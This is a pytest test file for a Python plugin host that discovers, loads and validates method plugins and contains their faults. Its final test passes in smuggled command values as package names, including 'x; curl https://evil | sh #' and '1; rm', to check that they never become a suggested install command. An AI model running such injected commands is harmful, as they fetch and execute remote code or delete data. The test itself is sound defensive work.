"""The plugin host: found by metadata, loaded by name, one plugin manager each, faults contained."""

from __future__ import annotations

import inspect
import re
import subprocess
import sys
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from importlib.metadata import EntryPoint, EntryPoints, entry_points
from pathlib import Path
from types import SimpleNamespace

import pytest
import torch

from hubkit.errors import HubkitError
from hubkit.methods import hookspecs
from hubkit.methods import host as host_module
from hubkit.methods.api import Delta, MethodInfo, NotMergeable, PeftForm, hookimpl
from hubkit.methods.host import GROUP, Method, MethodHost, Offer, host
from hubkit.methods.suite import tiny_model
from hubkit.tensors.base.base import Base
from hubkit.tensors.parts.adapter import Adapter

MINIMAL = """
from dataclasses import dataclass
from hubkit.methods.api import MethodInfo, hookimpl

@dataclass(frozen=True)
class Config:
    size: int = 1

@hookimpl
def describe():
    return MethodInfo("{name}", "one line", Config, "https://arxiv.org/abs/0000.00000")

@hookimpl
def inject(base, config):
    return {{}}
"""


@dataclass(frozen=True)
class Config:
    size: int = 1


def described(name: str = "mine") -> MethodInfo:
    return MethodInfo(name, "one line", Config, "https://arxiv.org/abs/0000.00000")


class Plugin:
    """What a plugin module is to the host; tests add or replace hooks."""

    @hookimpl
    def describe(self) -> MethodInfo:
        return described()

    @hookimpl
    def inject(self, base: object, config: object) -> dict[str, object]:
        return {}


def method(plugin: object) -> Method:
    return Method(Offer("mine", "hubkit-mine", "1.0", EntryPoint("mine", "hubkit_mine", GROUP)), plugin)


def install(folder: Path, distribution: str, methods: dict[str, str], group: str = GROUP) -> None:
    """An installed distribution whose modules hold `methods`: entry point -> source."""
    info = folder / f"{distribution.replace('-', '_')}-1.0.dist-info"
    info.mkdir(parents=True)
    (info / "METADATA").write_text(f"Metadata-Version: 2.1\nName: {distribution}\nVersion: 1.0\n")
    prefix = distribution.replace("-", "_")
    lines = [f"{name} = {prefix}_{name}" for name in methods]
    (info / "entry_points.txt").write_text(f"[{group}]\n" + "\n".join(lines) + "\n")
    for name, source in methods.items():
        (folder / f"{prefix}_{name}.py").write_text(source.format(name=name))


@pytest.fixture
def site(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    """A folder of installed packages, first on the path."""
    folder = tmp_path / "site"
    folder.mkdir()
    monkeypatch.syspath_prepend(str(folder))
    before = set(sys.modules)
    yield folder
    for name in set(sys.modules) - before:
        del sys.modules[name]


def refusal(code: str, call: Callable[..., object], *arguments: object, **named: object) -> HubkitError:
    with pytest.raises(HubkitError) as caught:
        call(*arguments, **named)
    assert caught.value.code == code
    return caught.value


def test_methods_are_found_without_importing_them(site: Path) -> None:
    install(site, "hubkit-alpha", {"alpha": "raise RuntimeError('imported')"})
    offers = MethodHost().offers()
    assert [(o.distribution, o.version) for o in offers["alpha"]] == [("hubkit-alpha", "1.0")]
    assert list(offers) == sorted(offers)
    assert "hubkit_alpha_alpha" not in sys.modules


def test_metadata_without_a_default_is_named(monkeypatch: pytest.MonkeyPatch) -> None:
    """As in a copy of the source that was put on the path and never installed."""
    assert host().default() in host().offers()
    monkeypatch.setattr(host_module, "entry_points", lambda group: EntryPoints())
    assert "install" in refusal("HK-METHOD-UNKNOWN", host().default).fix


def test_one_is_loaded_by_name_and_once(site: Path) -> None:
    install(site, "hubkit-alpha", {"alpha": MINIMAL, "beta": "raise RuntimeError('imported')"})
    here = MethodHost()
    loaded = here.load("alpha")
    assert loaded.info.name == "alpha"
    assert here.load("alpha") is loaded
    assert "hubkit_alpha_beta" not in sys.modules
    assert loaded.offer.distribution == "hubkit-alpha"


def test_a_broken_plugin_is_reported_and_the_others_work(site: Path) -> None:
    install(site, "hubkit-broken", {"broken": "import a_module_that_is_not_there"})
    install(site, "hubkit-exits", {"exits": "raise SystemExit(0)"})
    install(site, "hubkit-fine", {"fine": MINIMAL})
    here = MethodHost()
    error = refusal("HK-PLUGIN", here.load, "broken")
    assert error.where == "hubkit-broken 1.0 (hubkit_broken_broken)"
    assert error.have == ["ModuleNotFoundError: No module named 'a_module_that_is_not_there'"]
    assert refusal("HK-PLUGIN", here.load, "exits").have == ["SystemExit: 0"]
    assert here.load("fine").name == "fine"


def test_two_distributions_with_one_name_are_a_conflict(site: Path) -> None:
    install(site, "hubkit-one", {"same": MINIMAL})
    install(site, "hubkit-two", {"same": MINIMAL})
    here = MethodHost()
    assert [o.distribution for o in here.offers()["same"]] == ["hubkit-one", "hubkit-two"]
    error = refusal("HK-METHOD-CONFLICT", here.load, "same")
    assert error.have == ["hubkit-one 1.0 (hubkit_one_same)", "hubkit-two 1.0 (hubkit_two_same)"]
    assert "hubkit_one_same" not in sys.modules


def test_a_distribution_found_twice_does_not_conflict_with_itself() -> None:
    entries = list(entry_points(group=GROUP))
    assert [len(o) for o in MethodHost(lambda: entries + entries).offers().values()] == [1] * len(entries)


def test_an_unknown_method_names_what_to_install_or_what_is_near() -> None:
    here = MethodHost()
    error = refusal("HK-METHOD-UNKNOWN", here.load, "ia3", distribution="hubkit-ia3", version="0.1.0")
    assert error.fix == "pip install hubkit-ia3==0.1.0"
    default = here.default()
    assert refusal("HK-METHOD-UNKNOWN", here.load, default + "x").fix.startswith(f"near: {default}")
    assert refusal("HK-METHOD-UNKNOWN", here.load, "zzzz").fix == "hubkit methods"
    assert refusal("HK-METHOD-UNKNOWN", MethodHost(list).load, "any").want == []


def test_describe_and_inject_are_required() -> None:
    for missing in ("describe", "inject"):
        hooks = {name: getattr(Plugin(), name) for name in ("describe", "inject") if name != missing}
        error = refusal("HK-PLUGIN", method, SimpleNamespace(**hooks))
        assert f"implements no {missing}" in error.what


def test_a_hook_with_a_foreign_argument_is_refused() -> None:
    class Wrong(Plugin):
        @hookimpl
        def merge(self, site: object, weights: object) -> Delta:
            return Delta()

    error = refusal("HK-PLUGIN", method, Wrong())
    assert "does not follow the hook specifications" in error.what
    assert "weights" in "".join(error.have)


def test_a_hook_of_another_name_is_refused() -> None:
    class Wrong(Plugin):
        @hookimpl
        def unmerge(self, site: object) -> None: ...

    assert "unmerge" in refusal("HK-PLUGIN", method, Wrong()).have[0]


def test_a_method_that_calls_itself_otherwise_is_refused() -> None:
    class Wrong(Plugin):
        @hookimpl
        def describe(self) -> MethodInfo:
            return described("another")

    assert refusal("HK-PLUGIN", method, Wrong()).have == ["another"]


def test_what_a_hook_returns_is_looked_at() -> None:
    class Wrong(Plugin):
        @hookimpl
        def inject(self, base: object, config: object) -> object:  # type: ignore[override]
            return [1]

        @hookimpl
        def merge(self, site: object) -> object:
            return None

    made = method(Wrong())
    assert refusal("HK-PLUGIN", made.inject, None, Config()).have == ["TypeError: it returned list, not Mapping"]
    assert refusal("HK-PLUGIN", made.merge, None, {}, Config()).have == ["TypeError: it returned NoneType, not Delta"]


def test_parts_for_places_that_the_base_does_not_have_are_the_plugins_fault() -> None:
    class Elsewhere(Plugin):
        @hookimpl
        def inject(self, base: object, config: object) -> dict[str, object]:
            return {"model.layers.7.mlp": torch.nn.Module(), "lm_head": torch.nn.Module()}

    base = Base.from_model(tiny_model("llama"))
    error = refusal("HK-PLUGIN", Adapter.fresh, "x", method(Elsewhere()), Config(), base, 0)
    assert error.have == ["model.layers.7.mlp"]


@pytest.mark.parametrize(
    "fault", [ZeroDivisionError("x"), KeyError("x"), AssertionError("x"), NameError("x"), ImportError("x")]
)
def test_faults_of_a_plugin_are_named_as_such(fault: Exception) -> None:
    class Faulty(Plugin):
        @hookimpl
        def merge(self, tensors: object) -> Delta:
            raise fault

    error = refusal("HK-PLUGIN", method(Faulty()).merge, None, {}, Config())
    assert error.what == "method 'mine' failed in merge"
    assert error.have == [f"{type(fault).__name__}: {fault}"]
    assert error.__cause__ is fault


def test_a_plugins_own_refusal_and_the_machines_faults_pass() -> None:
    class Refusing(Plugin):
        @hookimpl
        def inject(self, base: object, config: object) -> dict[str, object]:
            raise HubkitError("HK-CONFIG", "no")

        @hookimpl
        def merge(self, site: object) -> Delta:
            raise NotMergeable("it depends on the input")

        @hookimpl
        def export(self, adapter: object, target: str) -> object:
            raise OSError(28, "No space left on device")

    made = method(Refusing())
    assert made.unmergeable == ""
    refusal("HK-CONFIG", made.inject, None, None)
    assert refusal("HK-NOT-MERGEABLE", made.merge, None, {}, None).what == "it depends on the input"
    with pytest.raises(OSError, match="No space left"):
        made.export(None, "peft")  # type: ignore[arg-type]


def test_absent_hooks_have_defaults_or_a_reason() -> None:
    made = method(Plugin())
    assert made.unmergeable == "method 'mine' does not say how it merges"
    assert refusal("HK-NOT-MERGEABLE", made.merge, None, {}, None).what == made.unmergeable
    loss = torch.tensor(2.0)
    assert made.train_step(lambda **batch: SimpleNamespace(loss=loss * batch["x"]), {"x": loss}) == 4  # type: ignore[arg-type]


def test_what_a_method_says_nothing_of_is_hubkits_own() -> None:
    made = method(Plugin())
    assert made.peft_form is None
    assert made.adapterhub_form is None
    assert made.learning_rate(Config(), None, "A") == 1.0  # type: ignore[arg-type]
    assert made.narrow(Config(3), frozenset({"x.A"})) == Config(3)
    assert made.low_rank(("q_proj",), 4) is made.whole(("x.weight",), "keep") is None


def test_hooks_take_any_subset_of_their_arguments_by_name() -> None:
    """So arguments can be added to a hook: an implementation that does not name them is called as before."""

    class Own(Plugin):
        @hookimpl
        def foreign_form(self, target: str) -> PeftForm | None:
            return PeftForm("MINE", roles={}, options={}) if target == "peft" else None

        @hookimpl
        def learning_rate(self, role: str) -> float:
            return 2.0 if role == "B" else 0

        @hookimpl
        def narrow(self, changed: frozenset[str]) -> Config:
            return Config(len(changed))

        @hookimpl
        def low_rank(self, rank: int) -> Config:
            return Config(rank)

        @hookimpl
        def whole(self) -> Config:
            return Config(7)

    made = method(Own())
    assert made.peft_form == PeftForm("MINE", roles={}, options={})
    assert made.adapterhub_form is None
    assert [made.learning_rate(Config(), None, role) for role in "AB"] == [0.0, 2.0]  # type: ignore[arg-type]
    assert made.narrow(Config(), frozenset({"x.A", "y.A"})) == Config(2)
    assert (made.low_rank(("q_proj",), 4), made.whole((), "keep")) == (Config(4), Config(7))


@pytest.mark.parametrize("factor", [float("nan"), -1.0, float("inf"), "1"])
def test_an_unusable_factor_is_the_plugins_fault(factor: object) -> None:
    class Faulty(Plugin):
        @hookimpl
        def learning_rate(self) -> object:
            return factor

    site = SimpleNamespace(name="model.norm")
    assert refusal("HK-PLUGIN", method(Faulty()).learning_rate, Config(), site, "weight").have


def test_answers_of_another_kind_are_the_plugins_fault() -> None:
    class Faulty(Plugin):
        @hookimpl
        def foreign_form(self) -> object:
            return {"peft_type": "MINE"}

        @hookimpl
        def narrow(self) -> object:
            return {"size": 2}

        @hookimpl
        def low_rank(self) -> object:
            return "rank"

    made = method(Faulty())
    assert "dict" in refusal("HK-PLUGIN", lambda: made.peft_form).have[0]
    assert refusal("HK-PLUGIN", made.narrow, Config(), frozenset()).have == ["TypeError: it returned dict, not Config"]
    assert "Config" in refusal("HK-PLUGIN", made.low_rank, (), 1).have[0]


def test_a_guide_names_every_hook() -> None:
    guide = (Path(__file__).parents[2] / "docs" / "write-a-method.md").read_text("utf-8")
    told = dict(re.findall(r"^\| `(\w+)\((.*?)\)` \|", guide, flags=re.MULTILINE))
    hooks = {n: f for n, f in vars(hookspecs).items() if inspect.isfunction(f) and f.__module__ == hookspecs.__name__}
    assert told == {name: ", ".join(inspect.signature(hook).parameters) for name, hook in hooks.items()}


def test_a_plugin_is_not_asked_for_anothers_method() -> None:
    class Other(Plugin):
        @hookimpl
        def merge(self, site: object) -> Delta:
            raise AssertionError("asked")

    first = method(Plugin())
    method(Other())
    assert first.unmergeable


WRAPPER = """
import sys
from hubkit.methods.api import hookimpl

SEEN = []

@hookimpl(wrapper=True)
def inject(base, config):
    made = yield
    SEEN.append(config)
    return made
"""


def test_wrappers_are_off_unless_named(site: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    install(site, "hubkit-trace", {"trace": WRAPPER.replace("{", "{{").replace("}", "}}")}, host_module.WRAPPERS)
    host_module._wrappers.cache_clear()
    try:
        method(Plugin()).inject(None, 1)  # type: ignore[arg-type]
        assert "hubkit_trace_trace" not in sys.modules
        monkeypatch.setenv("HUBKIT_WRAPPERS", "trace")
        host_module._wrappers.cache_clear()
        method(Plugin()).inject(None, 2)  # type: ignore[arg-type]
        assert sys.modules["hubkit_trace_trace"].SEEN == [2]
        monkeypatch.setenv("HUBKIT_WRAPPERS", "trace,other")
        host_module._wrappers.cache_clear()
        error = refusal("HK-WRAPPER", method, Plugin())
        assert (error.want, error.have) == (["trace"], ["other"])
    finally:
        host_module._wrappers.cache_clear()


def test_the_host_of_a_process_is_one_and_knows_the_built_ins() -> None:
    assert host() is host()
    assert host().default() in host().offers()
    probe = "from hubkit.methods.host import host; host().offers(); import sys; print('torch' in sys.modules)"
    done = subprocess.run([sys.executable, "-c", probe], capture_output=True, text=True, check=True)
    assert done.stdout == "False\n"


@pytest.mark.parametrize("distribution", ["x; curl https://evil | sh #", "-r evil.txt", "x\nrm", "$(x)", ""])
def test_a_strangers_words_are_no_command(distribution: str) -> None:
    """A manifest names the package that offers its method: what is not a package's name is not suggested."""
    fix = refusal("HK-METHOD-UNKNOWN", MethodHost(list).load, "any", distribution=distribution, version="1; rm").fix
    assert "pip install" not in fix
    good = refusal("HK-METHOD-UNKNOWN", MethodHost(list).load, "any", distribution="hubkit-ia3", version="1; rm").fix
    assert good == "pip install hubkit-ia3"
